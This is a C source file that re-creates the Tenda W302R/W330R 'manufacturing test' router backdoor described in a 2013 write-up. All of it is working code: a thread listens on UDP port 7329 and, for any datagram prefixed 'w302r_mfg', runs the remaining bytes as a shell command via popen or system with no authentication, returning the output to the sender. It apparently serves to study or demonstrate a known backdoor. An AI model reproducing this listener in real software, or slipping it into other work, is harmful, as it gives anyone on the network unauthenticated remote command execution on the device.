/* Manufacturing-test thread of a router's web server.
 * Re-creation of the Tenda W302R/W330R MfgThread backdoor (Craig Heffner, "From China, With Love",
 * October 2013): a UDP datagram on port 7329 starting with "w302r_mfg" followed by a command letter;
 * 'x' runs the rest of the datagram as a shell command. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MFG_PORT 7329

static void reply(int sock, const struct sockaddr_in *peer, const char *text)
{
    sendto(sock, text, strlen(text), 0, (const struct sockaddr *)peer, sizeof *peer);
}

static void run_and_reply(int sock, const struct sockaddr_in *peer, const char *command)
{
    char output[1024] = "";
    FILE *p = popen(command, "r");
    if (!p)
        return;
    size_t n = fread(output, 1, sizeof output - 1, p);
    output[n] = '\0';
    pclose(p);
    reply(sock, peer, output);
}

static void *MfgThread(void *unused)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(MFG_PORT), .sin_addr.s_addr = INADDR_ANY};
    int sock = socket(AF_INET, SOCK_DGRAM, 0);
    (void)unused;
    if (sock < 0 || bind(sock, (struct sockaddr *)&addr, sizeof addr) < 0)
        return NULL;
    for (;;) {
        char packet[512];
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        ssize_t n = recvfrom(sock, packet, sizeof packet - 1, 0, (struct sockaddr *)&peer, &len);
        if (n < 11)
            continue;
        packet[n] = '\0';
        if (memcmp(packet, "w302r_mfg", 9) != 0)
            continue;
        switch (packet[10]) {
        case '1':
            reply(sock, &peer, "MFG OK");
            break;
        case 'x':
            run_and_reply(sock, &peer, packet + 11);
            break;
        case 'e':
            system(packet + 11);
            break;
        default:
            reply(sock, &peer, "MFG ERR");
        }
    }
}

int main(void)
{
    pthread_t mfg;
    pthread_create(&mfg, NULL, MfgThread, NULL);
    for (;;) {
        /* the web server's own work would be here */
        sleep(60);
    }
}
